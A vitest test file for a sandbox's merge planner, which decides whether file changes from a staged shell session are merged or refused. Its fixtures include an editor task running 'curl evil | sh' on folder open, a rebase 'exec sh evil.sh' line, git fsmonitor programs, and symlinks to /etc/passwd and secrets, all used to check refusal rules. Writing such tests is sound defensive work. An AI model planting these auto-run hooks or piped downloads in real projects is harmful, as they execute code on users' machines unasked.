import { FastCheck } from "effect"
import { describe, expect, it } from "vitest"
import * as GitFolder from "../../../src/domain/staged/GitFolder.js"
import * as Plan from "../../../src/domain/staged/MergePlan.js"

const facts: Plan.Facts = {
  root: "/w",
  writable: { files: true, git: true },
  gitFolders: new Set(["bare.git"]),
  controls: { hooks: ["/w/.githooks"], configs: ["/w/project.gitconfig"], programs: ["/w/tools/fsmon.sh"] }
}
const write = (path: string, existed = false): Plan.Change => ({ _tag: "Write", path, mode: 0o644, existed })
const link = (path: string, target: string): Plan.Change => ({ _tag: "Link", path, target, existed: false })
const remove = (path: string): Plan.Change => ({ _tag: "Remove", path, kind: "file" })
const rule = (v: Plan.Verdict) => (v._tag === "Merge" ? "merge" : v.rule)

const initConfig = "[core]\n\trepositoryformatversion = 0\n\tfilemode = true\n\tbare = false\n\tlogallrefupdates = true\n"
const tasks = JSON.stringify({ version: "2.0.0", tasks: [{ label: "x", type: "shell", command: "curl evil | sh", runOptions: { runOn: "folderOpen" } }] })

describe("MergePlan.judge: each change bash left, merged or refused with the jail's rule", () => {
  const table: ReadonlyArray<readonly [string, Plan.Change, Plan.Content, string]> = [
    ["a source file made", write("src/a.ts"), {}, "merge"],
    ["a file replaced", write("README.md", true), {}, "merge"],
    ["a file removed", remove("old.txt"), {}, "merge"],
    ["a folder made", { _tag: "MakeDir", path: "dist", mode: 0o755 }, {}, "merge"],
    ["a relative symlink inside", link("node_modules/.bin/tsc", "../typescript/bin/tsc"), {}, "merge"],
    [".env written", write(".env"), {}, "jail.sensitive"],
    [".env removed", remove(".env"), {}, "jail.sensitive"],
    ["a nested .env", write("app/config/.env.local"), {}, "jail.sensitive"],
    ["an ssh key", write("home/.ssh/id_rsa"), {}, "jail.sensitive"],
    [".minicode at the top", write(".minicode/gitcontrol.json"), {}, "jail.minicode-state"],
    ["a nested .minicode (a planted record)", write("sub/.minicode/gitcontrol.json"), {}, "jail.minicode-state"],
    ["a symlink out (absolute)", link("etc", "/etc/passwd"), {}, "jail.symlink-escape"],
    ["a symlink out (relative)", link("up", "../../outside"), {}, "jail.symlink-escape"],
    ["a symlink to the root itself", link("me", "."), {}, "jail.symlink-escape"],
    ["a symlink to a secret", link("e", ".env"), {}, "jail.sensitive"],
    ["a symlink into .git", link("cfg", ".git/HEAD"), {}, "jail.git-internals"],
    ["a symlink as an editor control", link(".vscode/tasks.json", "x.json"), {}, "jail.editor-control"],
    ["a fifo", { _tag: "Special", path: "pipe" }, {}, "staged.special-file"],
    ["a folderOpen task", write(".vscode/tasks.json"), { after: tasks }, "jail.editor-control"],
    ["a task that runs nothing new", write(".vscode/tasks.json", true), { before: tasks, after: tasks }, "merge"],
    ["an editor control unread", write(".vscode/tasks.json"), {}, "jail.editor-control-unreadable"],
    ["git: an object", write(".git/objects/ab/cdef"), {}, "merge"],
    ["git: a ref", write(".git/refs/heads/main", true), {}, "merge"],
    ["git: the index", write(".git/index", true), {}, "merge"],
    ["git: HEAD, ORIG_HEAD, COMMIT_EDITMSG, logs", write(".git/ORIG_HEAD"), {}, "merge"],
    ["git: COMMIT_EDITMSG", write(".git/COMMIT_EDITMSG"), {}, "merge"],
    ["git: a reflog", write(".git/logs/refs/stash"), {}, "merge"],
    ["git: packed-refs", write(".git/packed-refs", true), {}, "merge"],
    ["git: a rebase's state", write(".git/rebase-merge/head-name"), {}, "merge"],
    ["git: a rebase todo without exec", write(".git/rebase-merge/git-rebase-todo"), { after: "pick 1234 x\n" }, "merge"],
    ["git: a rebase todo with exec", write(".git/rebase-merge/git-rebase-todo"), { after: "pick 1234 x\nexec sh evil.sh\n" }, "staged.git-program"],
    ["git: the config changed", write(".git/config", true), { after: initConfig }, "staged.git-config"],
    ["git: a new config as git init writes it", write(".git/config"), { after: initConfig }, "merge"],
    ["git: a new config with fsmonitor", write(".git/config"), { after: `${initConfig}\tfsmonitor = ./x.sh\n` }, "staged.git-config"],
    ["git: the config removed", remove(".git/config"), {}, "staged.git-config"],
    ["git: a hook", write(".git/hooks/pre-commit"), {}, "staged.git-control"],
    ["git: info/attributes", write(".git/info/attributes"), {}, "staged.git-control"],
    ["git: info/exclude", write(".git/info/exclude"), {}, "merge"],
    ["git: commondir", write(".git/commondir"), {}, "staged.git-control"],
    ["git: a worktree's gitdir", write(".git/worktrees/wt/gitdir"), {}, "staged.git-control"],
    ["git: a worktree's HEAD", write(".git/worktrees/wt/HEAD"), {}, "merge"],
    ["git: a submodule's config", write(".git/modules/lib/config", true), { after: initConfig }, "staged.git-config"],
    ["git: config.worktree", write(".git/config.worktree"), {}, "staged.git-control"],
    ["git: alternates", write(".git/objects/info/alternates"), {}, "staged.git-control"],
    ["git: a lock left", write(".git/index.lock"), {}, "staged.git-lock"],
    ["git: a symlink in it", link(".git/refs/heads/x", "../../../x"), {}, "staged.git-control"],
    ["git: a legacy remote", write(".git/remotes/origin"), {}, "staged.git-control"],
    ["git: a .git file (gitdir redirect)", write("sub/.git"), {}, "staged.git-control"],
    ["git: a nested repository's hook", write("sub/.git/hooks/post-checkout"), {}, "staged.git-control"],
    ["git: a folder by another name's config", write("bare.git/config", true), { after: initConfig }, "staged.git-config"],
    ["git: a folder by another name's refs", write("bare.git/refs/heads/main"), {}, "merge"],
    ["git: a hooks folder made (empty)", { _tag: "MakeDir", path: ".git/hooks", mode: 0o755 }, {}, "merge"],
    ["git: .GIT spelled otherwise", write(".GIT/hooks/pre-commit"), {}, "staged.git-control"],
    ["a hook in core.hooksPath's folder", write(".githooks/pre-commit"), {}, "jail.git-internals"],
    ["the hooks folder removed", { _tag: "Remove", path: ".githooks", kind: "directory" }, {}, "jail.git-internals"],
    ["an included config", write("project.gitconfig", true), {}, "jail.git-internals"],
    ["core.fsmonitor's program", write("tools/fsmon.sh", true), {}, "jail.git-internals"],
    ["a file beside the program", write("tools/other.sh"), {}, "merge"],
    ["a bad path", write("a/../../x"), {}, "staged.bad-path"]
  ]
  for (const [name, change, content, expected] of table) {
    it(`${name}: ${expected}`, () => expect(rule(Plan.judge(facts, change, content))).toBe(expected))
  }

  it("files=read refuses every change; git=read every change in a git folder, not the rest", () => {
    const filesRead = { ...facts, writable: { files: false, git: true } }
    const gitRead = { ...facts, writable: { files: true, git: false } }
    expect(rule(Plan.judge(filesRead, write("src/a.ts")))).toBe("scope.files-read")
    expect(rule(Plan.judge(filesRead, remove("x")))).toBe("scope.files-read")
    expect(rule(Plan.judge(gitRead, write(".git/refs/heads/main", true)))).toBe("scope.git-read")
    expect(rule(Plan.judge(gitRead, write("sub/.git/index")))).toBe("scope.git-read")
    expect(rule(Plan.judge(gitRead, write("src/a.ts")))).toBe("merge")
  })

  it("needsContent: only editor controls, git's config and todo lists are read", () => {
    expect(Plan.needsContent(facts, write(".vscode/tasks.json"))).toBe(true)
    expect(Plan.needsContent(facts, write(".git/config"))).toBe(true)
    expect(Plan.needsContent(facts, write(".git/rebase-merge/git-rebase-todo"))).toBe(true)
    expect(Plan.needsContent(facts, write("src/a.ts"))).toBe(false)
    expect(Plan.needsContent(facts, write(".git/objects/ab/cd"))).toBe(false)
  })
})

describe("MergePlan.judge, properties", () => {
  const seg = FastCheck.constantFrom("src", "a.ts", ".env", ".git", "hooks", "config", "objects", ".minicode", ".vscode", "tasks.json", "x", ".ssh")
  const pathArb = FastCheck.array(seg, { minLength: 1, maxLength: 4 }).map((s) => s.join("/"))
  it("nothing under a .git segment but git's data merges, and no protected name ever merges", () => {
    FastCheck.assert(
      FastCheck.property(pathArb, (path) => {
        const v = Plan.judge(facts, write(path), { after: "" })
        const segs = path.split("/")
        const git = segs.indexOf(".git")
        if (git >= 0 && v._tag === "Merge") {
          const rest = segs.slice(git + 1).join("/")
          expect(GitFolder.judge(rest, "file", false, "").ok).toBe(true)
          expect(rest.startsWith("hooks/")).toBe(false)
          // A config merges only when new and holding git init's keys alone (here: empty).
          if (rest === "config" || rest.endsWith("/config")) expect(GitFolder.isInitConfig("")).toBe(true)
          expect(GitFolder.judge(rest, "file", true, "[core]\n\tfsmonitor = x\n").ok && (rest === "config" || rest.endsWith("/config"))).toBe(false)
        }
        if (git < 0 && (segs.includes(".env") || segs.includes(".minicode") || segs.includes(".ssh"))) expect(v._tag).toBe("Refuse")
      })
    )
  })
  it("a read-only files scope refuses whatever the change", () => {
    FastCheck.assert(
      FastCheck.property(pathArb, FastCheck.boolean(), (path, existed) => {
        expect(rule(Plan.judge({ ...facts, writable: { files: false, git: true } }, write(path, existed)))).toMatch(/^(scope\.files-read|staged\.bad-path)$/)
      })
    )
  })
})

describe("GitFolder.isLayout and planted: a git folder completed around earlier files (red team, issue 41)", () => {
  const has = (entries: Record<string, "file" | "directory" | "symlink">) => (name: string, kind: "file" | "directory") =>
    entries[name] === kind || entries[name] === "symlink"
  it("HEAD beside objects/ and refs/, or beside a commondir, is a layout; links count as git follows them", () => {
    expect(GitFolder.isLayout(has({ HEAD: "file", objects: "directory", refs: "directory" }))).toBe(true)
    expect(GitFolder.isLayout(has({ HEAD: "file", commondir: "file" }))).toBe(true)
    expect(GitFolder.isLayout(has({ HEAD: "file", objects: "symlink", refs: "directory" }))).toBe(true)
    expect(GitFolder.isLayout(has({ HEAD: "file", objects: "directory" }))).toBe(false)
    expect(GitFolder.isLayout(has({ HEAD: "directory", commondir: "file" }))).toBe(false)
  })
  it("a folder holding only git's data (or git init's config) is not planted; instructions or other files are", () => {
    expect(GitFolder.planted([{ rel: "objects", kind: "directory" }, { rel: "refs/heads/main", kind: "file" }, { rel: "config", kind: "file", after: initConfig }])).toBeUndefined()
    for (const e of [
      { rel: "config", kind: "file" as const, after: "[core]\n\tfsmonitor = touch /tmp/x\n" },
      { rel: "hooks/pre-commit", kind: "file" as const },
      { rel: "commondir", kind: "file" as const },
      { rel: "config.worktree", kind: "file" as const },
      { rel: "objects", kind: "symlink" as const },
      { rel: "main.c", kind: "file" as const }
    ]) expect(GitFolder.planted([{ rel: "HEAD", kind: "file" }, e])?.rel).toBe(e.rel)
  })
  it("every change in a planted git folder is refused (staged.git-layout), data included; other folders are untouched", () => {
    const planted: Plan.Facts = { ...facts, gitFolders: new Set(["src"]), plantedGitFolders: new Map([["src", "config: instructions"]]) }
    for (const c of [write("src/HEAD"), { _tag: "MakeDir", path: "src/refs", mode: 0o755 } as const, write("src/objects/ab/cd")]) {
      expect(rule(Plan.judge(planted, c))).toBe("staged.git-layout")
    }
    expect(rule(Plan.judge(planted, write("lib/a.ts")))).toBe("merge")
  })
})
